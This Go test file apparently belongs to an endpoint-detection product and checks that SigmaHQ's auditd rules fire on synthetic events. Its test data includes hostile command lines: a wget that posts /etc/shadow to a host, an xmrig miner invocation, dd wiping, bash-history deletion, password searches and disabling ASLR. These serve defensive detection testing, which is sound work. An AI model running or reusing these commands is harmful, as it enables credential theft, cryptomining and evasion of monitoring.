package fields_test

import (
	"io/fs"
	"path/filepath"
	"strings"
	"testing"

	"github.com/vedette-edr/vedette/analyzer/sigma/engine"
	"github.com/vedette-edr/vedette/analyzer/sigma/interpret"
	"github.com/vedette-edr/vedette/analyzer/sigma/rule"
	"github.com/vedette-edr/vedette/analyzer/sigma/sigmatest"
	"github.com/vedette-edr/vedette/analyzer/sigma/taxonomy"
	pb "github.com/vedette-edr/vedette/proto"
)

// auditdCase says what fires one of SigmaHQ's rules for the audit daemon, or why nothing can.
type auditdCase struct {
	fires []*pb.Event
	never string
}

func auditdCases() map[string]auditdCase {
	fires := func(events ...*pb.Event) auditdCase { return auditdCase{fires: events} }
	lines := func(commands ...string) auditdCase {
		var c auditdCase
		for _, command := range commands {
			c.fires = append(c.fires, line(command))
		}
		return c
	}
	never := func(why string) auditdCase { return auditdCase{never: why} }
	memfd := by(200, 1000, "ecasound")
	memfd.Payload = &pb.Event_MemfdCreate{MemfdCreate: &pb.MemfdCreate{Name: []byte("x")}}
	module := by(200, 0, "insmod")
	module.Payload = &pb.Event_ModuleLoad{ModuleLoad: &pb.ModuleLoad{Name: []byte("evil")}}
	sysctl := by(200, 0, "sysctl")
	sysctl.Payload = &pb.Event_SysctlWrite{SysctlWrite: &pb.SysctlWrite{Name: []byte("kernel.sysrq"), NewValue: []byte("1")}}
	const noCall = "no sensor reports this system call"
	return map[string]auditdCase{
		"binary_padding":                               lines("truncate -s 10M /bin/x", "dd if=/dev/zero bs=1"),
		"bpfdoor_port_redirect":                        lines("iptables -t nat -A PREROUTING -p tcp -j REDIRECT --to-ports 42391"),
		"capabilities_discovery":                       lines("getcap -r /"),
		"change_file_time_attr":                        lines("touch -acmr /bin/sh x"),
		"chattr_immutable_removal":                     lines("chattr -i /etc/passwd"),
		"clipboard_collection":                         lines("xclip -sel clip -o"),
		"clipboard_image_collection":                   lines("xclip -selection clipboard -t image/png -o"),
		"coinminer":                                    lines("xmrig --cpu-priority 5", "xmrig a b c d e f --cpu-priority=5"),
		"data_compressed":                              lines("zip x y", "gzip -k x", "tar -czf x y"),
		"data_exfil_wget":                              lines("wget --post-file=/etc/shadow http://x"),
		"dd_delete_file":                               lines("dd if=/dev/zero of=x"),
		"file_or_folder_permissions":                   lines("chmod 777 x", "chown ada x"),
		"find_cred_in_files":                           lines("grep -ri password /etc"),
		"hidden_files_directories":                     lines("mkdir /tmp/.x", "touch -a .y"),
		"hidden_zip_files_steganography":               lines("cat a.jpg b.zip"),
		"masquerading_crond":                           lines("cp /bin/sh /tmp/crond"),
		"modify_system_firewall":                       lines("ufw delete 1", "nft flush ruleset"),
		"network_sniffing":                             lines("tcpdump -c 5 -i eth0"),
		"screencapture_import":                         lines("import -window root x.png", "import x.jpg"),
		"screencaputre_xwd":                            lines("xwd -root -out x.xwd", "xwd -out x.xwd"),
		"steghide_embed_steganography":                 lines("steghide embed -cf x.jpg -ef y"),
		"steghide_extract_steganography":               lines("steghide extract -sf x.jpg"),
		"susp_cmds":                                    lines("chmod 777 x", "cp /bin/ksh x"),
		"susp_histfile_operations":                     lines("rm /root/.bash_history"),
		"susp_service_reload_or_restart":               lines("systemctl restart ssh"),
		"system_shutdown_reboot":                       lines("reboot", "telinit 6"),
		"unzip_hidden_zip_files_steganography":         lines("unzip x.png"),
		"user_discovery":                               lines("whoami", "w"),
		"audio_capture":                                fires(line("arecord -vv -fdat"), memfd),
		"disable_aslr_protection":                      lines("sysctl -w kernel.randomize_va_space=0"),
		"keylogging_with_pam_d":                        fires(wrote("/etc/pam.d/system-auth")),
		"password_policy_discovery":                    fires(read("/etc/login.defs"), line("chage -l"), line("passwd -S")),
		"susp_c2_commands":                             never("the key of an audit rule"),
		"system_info_discovery":                        fires(read("/etc/issue"), line("uname -a"), line("kmod list"), line("grep vbox /proc/cpuinfo")),
		"auditing_config_change":                       fires(wrote("/etc/audit/rules.d/x")),
		"bpfdoor_file_accessed":                        fires(wrote("/var/run/haldrund.pid")),
		"hidden_binary_execution":                      fires(exec(200, "/tmp/.x/y"), read("/home/ada/.ssh/id")),
		"ld_so_preload_mod":                            fires(wrote("/etc/ld.so.preload")),
		"logging_config_change":                        fires(wrote("/etc/rsyslog.conf")),
		"magic_system_request_key":                     fires(wrote("/proc/sysrq-trigger"), sysctl),
		"system_info_discovery2":                       fires(read("/proc/version"), read("/etc/os-release")),
		"systemd_service_creation":                     fires(wrote("/etc/systemd/system/x.service"), wrote("/home/ada/.config/systemd/user/x.service")),
		"unix_shell_configuration_modification":        fires(wrote("/etc/profile.d/x.sh"), wrote("/home/ada/.bashrc")),
		"disable_system_firewall":                      never("type of"),
		"clean_disable_dmesg_logs_via_syslog":          never(noCall),
		"create_account":                               fires(execAs(0, 200, "/usr/sbin/useradd", "useradd", "x")),
		"load_module_insmod":                           fires(exec(200, "/usr/bin/kmod", "insmod", "x.ko"), exec(200, "/usr/bin/kmod", "insmod"), module),
		"network_service_scanning":                     never("the key of an audit rule"),
		"split_file_into_pieces":                       lines("split x"),
		"susp_discovery_sysinfo_syscall":               never(noCall),
		"susp_exe_folders":                             fires(exec(200, "/tmp/x"), exec(200, "/home/ada/public_html/x")),
		"susp_special_file_creation_via_mknod_syscall": never(noCall),
		"web_rce": fires(execAs(33, 200, "/usr/bin/id", "id")),
	}
}

// Every rule that SigmaHQ has for the audit daemon fires on an event of ours, or is known never to; and the check of rules
// agrees.
func TestAuditdRules(t *testing.T) {
	root := sigmatest.Corpus(t, "sigma/rules/linux/auditd")
	set, problems, err := rule.Load(rule.Options{}, root)
	if err != nil || len(problems) > 0 {
		t.Fatalf("cannot load the rules: %v, %v", err, problems)
	}
	files := map[string]bool{}
	err = filepath.WalkDir(root, func(path string, _ fs.DirEntry, err error) error {
		files[path] = filepath.Ext(path) == ".yml"
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	cases, used := auditdCases(), map[string]bool{}
	rules := engine.New(set.Rules, engine.Options{Aliased: taxonomy.Aliased()})
	platform := taxonomy.For(linux)
	fired, never := 0, 0
	for _, r := range set.Rules {
		delete(files, r.File)
		name := strings.TrimSuffix(strings.TrimPrefix(filepath.Base(r.File), "lnx_auditd_"), ".yml")
		c, ok := cases[name]
		used[name] = true
		verdict := platform.Check(r)
		possible := verdict.State != taxonomy.Cannot
		switch {
		case !ok:
			t.Errorf("no event is given for %s", r.File)
		case c.never != "":
			never++
			if possible {
				t.Errorf("%s never fires (%s), but the check says: %s", name, c.never, verdict)
			}
		default:
			fired++
			if !possible {
				t.Errorf("%s fires, but the check says: %s", name, verdict)
			}
		}
		for i, ev := range c.fires {
			w := newWorld(t, linux, rules.Fields()...)
			if !firesOn(w, rules, r, ev) {
				t.Errorf("%s does not fire on event %d", name, i)
			}
		}
	}
	for path, isRule := range files {
		if isRule {
			t.Errorf("%s was not loaded", path)
		}
	}
	for name := range cases {
		if !used[name] {
			t.Errorf("no rule is named %s", name)
		}
	}
	t.Logf("%d rules fire, %d never can", fired, never)
}

// firesOn shows the event and matches it, with both implementations of matching.
func firesOn(w *world, rules *engine.Ruleset, r *rule.Rule, ev *pb.Event) bool {
	if ev.GetExec() == nil {
		// The process is known from its start.
		w.tree.Apply(exec(ev.Actor.Process.Pid, "/usr/bin/"+string(ev.Actor.Comm), string(ev.Actor.Comm)))
		if string(ev.Actor.Comm) == "insmod" {
			w.tree.Apply(exec(ev.Actor.Process.Pid, "/usr/bin/kmod", "insmod"))
		}
	}
	found, walked := false, false
	for i := range w.show(ev) {
		w.view.Show(i)
		for _, m := range rules.Program(w.view.Sources()).Match(w.view, nil) {
			found = found || m.Rule == r
		}
		for _, source := range w.view.Sources() {
			walked = walked || r.Logsource.Covers(source) && interpret.Matches(r, interpret.Adapt(rules.Fields(), w.view))
		}
	}
	return found && walked
}
